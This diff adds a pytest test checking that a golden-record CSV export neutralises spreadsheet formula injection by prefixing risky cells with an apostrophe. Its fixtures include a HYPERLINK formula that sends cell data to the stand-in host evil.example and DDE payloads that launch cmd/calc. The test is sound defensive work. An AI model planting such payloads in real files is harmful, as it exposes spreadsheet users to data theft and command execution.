@@ -54,3 +54,36 @@ def test_golden_export_has_the_rules_columns_and_types_without_records_or_values
     with (tmp_path / "one.csv").open(encoding="utf-8") as fh:
         (row,) = list(csv.DictReader(fh))
     assert list(row) == COLUMNS and row["full_name"] == "Nguyễn An" and row["postcode"] == ""
+
+
+def test_csv_cells_a_spreadsheet_would_run_as_formulas_are_written_as_text(tmp_path: Path) -> None:
+    """A value a source sent (a name, a city, a key) that starts like a formula is written after a
+    "'" so that a spreadsheet opening the export shows it instead of running it; phones stay."""
+    db = tmp_path / "mdm.duckdb"
+    attacks = {"full_name": '=HYPERLINK("http://evil.example/?d="&B2,"Click")',
+               "city": "-2+3+cmd|' /C calc'!A0", "company": "@SUM(1+1)*cmd|' /C calc'!A0",
+               "address": "+cmd|' /C calc'!A0", "postcode": "\t=1+1"}
+    phones = {"phone": "+84912345678", "all_phones": ["+84912345678", "+84 987 654 321"], "tax_id": "-0101"}
+    con = database.connect(db)
+    at = dt.datetime(2026, 6, 30, 12)
+    con.execute("INSERT INTO golden_records (golden_id, status, attributes, record_count, sources,"
+                " created_at, updated_at) VALUES ('G1', 'active', ?, 1, ['crm'], ?, ?)",
+                [json.dumps(dict.fromkeys(ATTRIBUTES) | attacks | phones), at, at])
+    con.execute("INSERT INTO xref VALUES ('crm', '=1+1', 'crm:=1+1', 'G1', 'r1')")
+    con.execute("INSERT INTO quarantine VALUES ('r1', 'crm', 7, '@A1', 'line 7 has 2 fields', '=cmd|x,1')")
+    con.close()
+    _export(db, tmp_path / "golden.csv")
+    for kind in ("xref", "quarantine"):
+        done = runner.invoke(app, ["export", kind, "--db", str(db), "--out", str(tmp_path / f"{kind}.csv")])
+        assert done.exit_code == 0, done.output
+
+    with (tmp_path / "golden.csv").open(encoding="utf-8") as fh:
+        (row,) = list(csv.DictReader(fh))
+    assert {k: row[k] for k in attacks} == {k: "'" + v for k, v in attacks.items()}
+    assert row["phone"] == "+84912345678" and row["all_phones"] == "+84912345678; +84 987 654 321"
+    assert row["tax_id"] == "-0101"  # a number
+    with (tmp_path / "xref.csv").open(encoding="utf-8") as fh:
+        assert list(csv.DictReader(fh))[0]["source_id"] == "'=1+1"
+    with (tmp_path / "quarantine.csv").open(encoding="utf-8") as fh:
+        quarantined = list(csv.DictReader(fh))[0]
+    assert (quarantined["source_id"], quarantined["raw"]) == ("'@A1", "'=cmd|x,1")
